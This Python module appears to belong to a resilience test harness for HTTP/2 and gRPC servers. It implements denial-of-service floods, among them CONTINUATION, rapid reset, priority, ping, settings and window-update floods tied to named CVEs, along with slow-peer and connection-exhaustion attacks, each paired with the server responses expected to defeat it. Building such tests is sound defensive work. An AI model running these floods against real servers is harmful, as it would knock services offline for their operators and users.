"""Floods at full speed, and peers that are slow or silent. The form is hostile_frames.py's.

A flood goes on until the server cuts it off or `Attacker.patience` seconds are over. What it costs
the server and its other clients is measured outside, by hostile_client.py.
"""

import random
import struct
import time

import frames
from attacker import DUPLEX, EMPTY, OUTPUT, UNARY, request_fields
from frames import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PRIORITY, frame
from hostile_requests import field, varint

# Cut off, by whatever code the server has for it.
CUT = ("goaway:*", "closed")
CALM = ("goaway:ENHANCE_YOUR_CALM", "goaway:FLOW_CONTROL_ERROR", "goaway:PROTOCOL_ERROR", "closed")
# Costs the server no more than reading: to go on answering is as good as to cut it off.
BORNE = (*CUT, "alive", "status:*", "reset:*")


def flood(attacker, block, reading=True):
    """Sends `block` over and over, a callable or bytes, reading in between."""
    begun = time.monotonic()
    sent = 0
    attacker.send_seconds = attacker.patience
    while time.monotonic() - begun < attacker.patience:
        piece = block() if callable(block) else block
        attacker.send(piece)
        sent += len(piece)
        if reading and attacker.readable():
            attacker.observe(0.0005, stream=-1)
        if attacker.over or attacker.outcome or "does not read" in attacker.answers:
            break
    attacker.flooded = sent
    attacker.flood_ms = round((time.monotonic() - begun) * 1e3)


def repeated(block, reading=True, before=None):
    """A flood of the same bytes on a connection that has begun well."""

    def body(attacker, path):
        attacker.start()
        if before:
            attacker.send(before)
        flood(attacker, block, reading)

    return body


class Streams:
    """Numbers of new streams, and header blocks that need no state."""

    def __init__(self, attacker, path, fields=None):
        self.block = attacker.codec.encode(fields or request_fields(path))
        self.attacker, self.next = attacker, 1

    def open(self, end=False):
        stream, self.next = self.next, self.next + 2
        self.attacker.next_stream = max(self.attacker.next_stream, self.next)
        flags = END_HEADERS | (END_STREAM if end else 0)
        return stream, frame(HEADERS, flags, stream, self.block)


def each_stream(after, path_of=None, end=False, change=None):
    """A flood of new streams, each followed by what `after(stream)` makes."""

    def body(attacker, path):
        attacker.start()
        fields = request_fields(path_of or path)
        streams = Streams(attacker, path, change(fields) if change else fields)

        def block():
            pieces = []
            for _ in range(100):
                stream, opening = streams.open(end)
                pieces.append(opening + after(stream))
            return b"".join(pieces)

        flood(attacker, block)

    return body


def continuation_flood(attacker, path):
    attacker.start().send(frame(HEADERS, END_STREAM, 1, attacker.codec.encode([("x", "1")])))
    flood(attacker, frame(CONTINUATION, 0, 1, b"") * 1000)


def continuation_flood_full(attacker, path):
    """Every CONTINUATION adds fields; the block never ends (CVE-2024-27316 and its kin)."""
    attacker.start().send(frame(HEADERS, END_STREAM, 1, attacker.codec.encode([("x", "1")])))
    flood(attacker, frame(CONTINUATION, 0, 1, b"\x00\x01a\x04bbbb" * 2000) * 10)


def priority_flood(attacker, path):
    """Trees of streams that are shuffled for ever (CVE-2019-9513)."""
    attacker.start()
    number = random.Random(1)

    def block():
        return b"".join(
            frame(PRIORITY, 0, number.randrange(1, 2000, 2), struct.pack(
                ">IB", number.randrange(2001, 4001, 2), number.randrange(256)))
            for _ in range(500))

    flood(attacker, block)


def unread_answers(attacker, path):
    """Asks for large answers, opens every window, and reads none (CVE-2019-9517)."""
    attacker.start((frames.INITIAL_WINDOW_SIZE, 0x7FFFFFFF))
    attacker.send(frames.window_update(0, 0x7FFFFFFF - frames.WINDOW))
    request = frames.grpc_message(b"\x10" + varint(512 << 10))
    streams = Streams(attacker, UNARY)

    def block():
        stream, opening = streams.open()
        return opening + frame(DATA, END_STREAM, stream, request)

    flood(attacker, block, reading=False)


def dribble(attacker, path):
    """Asks for large answers and takes them a byte at a time (CVE-2019-9511)."""
    attacker.start((frames.INITIAL_WINDOW_SIZE, 1))
    request = frames.grpc_message(b"\x10" + varint(64 << 10))
    streams = Streams(attacker, UNARY)
    numbers = []
    for _ in range(50):
        stream, opening = streams.open()
        numbers.append(stream)
        attacker.send(opening, frame(DATA, END_STREAM, stream, request))
    flood(attacker, b"".join(frames.window_update(stream, 1) for stream in numbers))


FLOODS = (
    ("settings_flood", BORNE, repeated(frames.settings((4, 65535)) * 500)),
    ("settings_flood_unread", CALM, repeated(frames.settings((4, 65535)) * 500, reading=False)),
    ("ping_flood", BORNE, repeated(b"".join(frames.ping(n) for n in range(500)))),
    ("ping_flood_unread", CALM, repeated(frames.ping(7) * 500, reading=False)),
    ("ping_ack_flood", BORNE, repeated(frames.ping(7, ack=True) * 500)),
    ("window_update_flood", BORNE, repeated(frames.window_update(0, 1) * 500)),
    ("unknown_frame_flood", BORNE, repeated(frame(0xEE, 0, 0, bytes(50)) * 500)),
    ("priority_flood", BORNE, priority_flood),
    ("continuation_flood", CUT, continuation_flood),
    ("continuation_flood_full", CUT, continuation_flood_full),
    ("empty_data_flood", BORNE, lambda attacker, path: (
        attacker.start().send(attacker.headers(path)),
        flood(attacker, frame(DATA, 0, 1, b"") * 500))),
    ("rapid_reset", CUT, each_stream(lambda stream: frames.reset(stream, frames.CANCEL))),
    ("made_you_reset", CUT, each_stream(lambda stream: frames.window_update(stream, 0))),
    ("made_you_reset_overflow",
     CUT, each_stream(lambda stream: frames.window_update(stream, 0x7FFFFFFF))),
    # RFC 9113 §8.1.1: the server resets each by itself.
    ("malformed_request_flood", CUT, each_stream(
        lambda _: b"", end=True, change=lambda all: all + [("X-Upper", "1")])),
    ("endless_streams", BORNE, each_stream(lambda _: b"")),
    ("calls_cut_short", BORNE, each_stream(
        lambda stream: frame(DATA, END_STREAM, stream, b"\0\0\0\0\x7f"))),
    ("empty_names", BORNE, each_stream(
        lambda _: b"", end=True, change=lambda all: all + [("", "")] * 50)),
    ("unread_answers", (*BORNE, "silent"), unread_answers),
    ("dribble", (*BORNE, "silent"), dribble),
)

# Slow or silent peers. Their outcome is "waiting" while the server's own time-outs run; with
# more patience than those it must be an end.


def half_open(attacker, path):
    """Connects and says nothing."""


def preface_only(attacker, path):
    attacker.send(frames.PREFACE)


def half_a_frame(attacker, path):
    attacker.start().send(attacker.headers(path)[:20])


def slow_preface(attacker, path):
    for byte in frames.PREFACE + frames.settings():
        attacker.send(bytes([byte]))
        if attacker.readable(min(0.2, attacker.patience / 40)):
            attacker.observe(0.001)


def slow_body(attacker, path):
    """A message that comes a byte at a time."""
    attacker.start().send(attacker.headers(path))
    begun = time.monotonic()
    attacker.send(frame(DATA, 0, 1, b"\0\0\0\xff\xff"))
    while time.monotonic() - begun < attacker.patience and not attacker.over:
        attacker.send(frame(DATA, 0, 1, b"x"))
        if attacker.readable(0.05) and attacker.observe(0.001).outcome:
            break


def zero_window(attacker, path):
    """Asks for 200 large answers without room for one byte of them."""
    attacker.start((frames.INITIAL_WINDOW_SIZE, 0))
    request = frames.grpc_message(b"\x10" + varint(512 << 10))
    streams = Streams(attacker, UNARY)
    for _ in range(200):
        stream, opening = streams.open()
        attacker.send(opening, frame(DATA, END_STREAM, stream, request))


def zero_window_stream(attacker, path):
    """One call that streams without end into a window of zero."""
    attacker.start((frames.INITIAL_WINDOW_SIZE, 0))
    request = frames.grpc_message(field(2, b"\x08" + varint(100_000)) * 5000)
    attacker.send(attacker.headers(OUTPUT))
    attacker.send_body(1, request)


def half_a_call(attacker, path):
    """A call that never ends its request."""
    attacker.start().send(attacker.headers(DUPLEX), frame(DATA, 0, 1, EMPTY))


def crowd(attacker, path):
    """300 connections that say nothing; the attacker's own is one more."""
    attacker.crowd = []
    for _ in range(300):
        try:
            attacker.crowd.append(frames.open_socket(attacker.address))
        except OSError:
            break


PATIENT = ("closed", "goaway:*", "waiting")
SLOW = (
    ("half_open", PATIENT, half_open),
    ("preface_only", PATIENT, preface_only),
    ("half_a_frame", PATIENT, half_a_frame),
    ("slow_preface", (*PATIENT, "alive"), slow_preface),
    ("slow_body", (*PATIENT, "status:*"), slow_body),
    ("zero_window", (*PATIENT, "status:*", "reset:*"), zero_window),
    ("zero_window_stream", (*PATIENT, "status:*", "reset:*"), zero_window_stream),
    ("half_a_call", (*PATIENT, "status:*"), half_a_call),
    ("crowd", PATIENT, crowd),
)
# Time-outs of the server must end these once the patience is longer than they are.
REAPED = ("half_open", "preface_only", "crowd")
